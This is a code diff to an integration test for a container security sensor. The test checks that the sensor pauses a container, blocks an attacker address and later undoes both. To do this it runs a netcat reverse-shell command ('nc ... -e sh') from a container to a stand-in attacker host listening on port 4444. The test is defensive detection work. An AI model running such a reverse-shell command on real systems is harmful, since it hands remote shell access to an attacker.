@@ -1,6 +1,6 @@
 // The whole way, with a real engine: an event in a container names it; an attack in a container ends with the
 // container paused and the attacker's address blocked; both are undone.
-import { execFileSync, spawn } from "node:child_process";
+import { type ChildProcess, execFileSync, spawn } from "node:child_process";
 import { randomBytes } from "node:crypto";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { picketWith, SensorProcess } from "../sensor/process.ts";
@@ -13,6 +13,7 @@ const attacker = `pk${randomBytes(3).toString("hex")}`;
 const attackerAddress = "203.0.113.7";
 const gateway = "203.0.113.1";
 const listening = 4444;
+const published = 8080;
 
 function ip(...args: string[]): void {
 	execFileSync("ip", args);
@@ -61,6 +62,16 @@ function start(extra: { config?: string; policy?: string; args?: string[] } = {}
 	return sensor;
 }
 
+/** The attacker's end of a reverse shell: takes connections and says nothing. */
+async function listen(): Promise<ChildProcess> {
+	const script = `require("node:net").createServer((s)=>s.on("error",()=>{})).listen(${listening},"0.0.0.0",()=>console.log("ready"))`;
+	const child = spawn("ip", ["netns", "exec", attacker, process.execPath, "-e", script], {
+		stdio: ["ignore", "pipe", "ignore"],
+	});
+	await new Promise((resolve) => child.stdout.once("data", resolve));
+	return child;
+}
+
 describe("an event in a container", () => {
 	it("names the container, its image and its labels, also when it lives for a blink", async () => {
 		const running = start({ args: ["--events", "exec,open"] });
@@ -103,14 +114,15 @@ describe("an attack in a container", () => {
 		await running.ready();
 		const name = `watched-${randomBytes(3).toString("hex")}`;
 		await engine.docker("run", "-d", "--name", name, engine.image, "sleep", "60");
-		// busybox's shell is the process that connects when nc is its applet: the shell's own child.
-		await engine.docker("exec", name, "sh", "-c", `nc -w 1 ${attackerAddress} ${listening} -e sh || true`);
+		const listener = await listen();
+		await engine.docker("exec", "-d", name, "sh", "-c", `nc ${attackerAddress} ${listening} -e sh`);
 		const { action } = await running.record(
 			"what would be done",
 			(record) => record.action?.kind === "KIND_PAUSE",
 		);
 		expect(action?.outcome).toBe("OUTCOME_WOULD_ACT");
 		expect(await engine.docker("inspect", "-f", "{{.State.Paused}}", name)).toContain("false");
+		listener.kill("SIGKILL");
 		await engine.docker("rm", "-f", name);
 		await running.dispose();
 	});
@@ -119,35 +131,32 @@ describe("an attack in a container", () => {
 		const running = start({ policy, config: "mode: enforce\n" });
 		await running.ready();
 		const name = `victim-${randomBytes(3).toString("hex")}`;
-		await engine.docker("run", "-d", "--name", name, engine.image, "sh", "-c", "httpd -f -p 8080");
-		const address = (await engine.docker("inspect", "-f", "{{.NetworkSettings.IPAddress}}", name)).trim();
-		await running.until("the web server", () => running.records.length >= 0);
-		const listener = spawn(
-			"ip",
-			[
-				"netns",
-				"exec",
-				attacker,
-				process.execPath,
-				"-e",
-				`require("node:net").createServer((s)=>s.on("error",()=>{})).listen(${listening},"0.0.0.0",()=>console.log("ready"))`,
-			],
-			{ stdio: ["ignore", "pipe", "ignore"] },
+		await engine.docker(
+			"run",
+			"-d",
+			"-p",
+			`${published}:8080`,
+			"--name",
+			name,
+			engine.image,
+			"httpd",
+			"-f",
+			"-p",
+			"8080",
 		);
-		await new Promise((resolve) => listener.stdout.once("data", resolve));
+		const listener = await listen();
 		try {
-			await waitUntil(() => reaches(address, 8080));
-			const attack = engine.docker(
-				"exec",
-				"-d",
-				name,
-				"sh",
-				"-c",
-				`nc ${attackerAddress} ${listening} -e sh`,
+			await waitUntil(() => reaches(gateway, published));
+			await engine.docker("exec", "-d", name, "sh", "-c", `nc ${attackerAddress} ${listening} -e sh`);
+			const paused = await running.record(
+				"the pause",
+				({ action }) => action?.kind === "KIND_PAUSE" && action.outcome !== "OUTCOME_UNCHANGED",
 			);
-			await attack;
-			const paused = await running.record("the pause", (record) => record.action?.kind === "KIND_PAUSE");
-			const blocked = await running.record("the block", (record) => record.action?.kind === "KIND_BLOCK");
+			// An alert on an execution has no peer to block, and says so; the one on the connection has.
+			const blocked = await running.record(
+				"the block",
+				({ action }) => action?.kind === "KIND_BLOCK" && action.target === attackerAddress,
+			);
 			expect(paused.action).toMatchObject({ outcome: "OUTCOME_VERIFIED", requester: "policy" });
 			expect(blocked.action).toMatchObject({ outcome: "OUTCOME_VERIFIED", target: attackerAddress });
 			expect(paused.action?.secondsToEffect).toBeGreaterThan(0);
@@ -160,11 +169,11 @@ describe("an attack in a container", () => {
 			const resumed = await picketWith([], "resume", name, "--socket", running.socket);
 			expect(resumed.status, resumed.out + resumed.err).toBe(0);
 			expect((await engine.docker("inspect", "-f", "{{.State.Status}}", name)).trim()).toBe("running");
-			expect(await reaches(address, 8080)).toBe(false);
+			expect(await reaches(gateway, published)).toBe(false);
 
 			const released = await picketWith([], "unblock", attackerAddress, "--socket", running.socket);
 			expect(released.status, released.out + released.err).toBe(0);
-			expect(await reaches(address, 8080)).toBe(true);
+			expect(await reaches(gateway, published)).toBe(true);
 		} finally {
 			listener.kill("SIGKILL");
 			await engine.docker("rm", "-f", name);
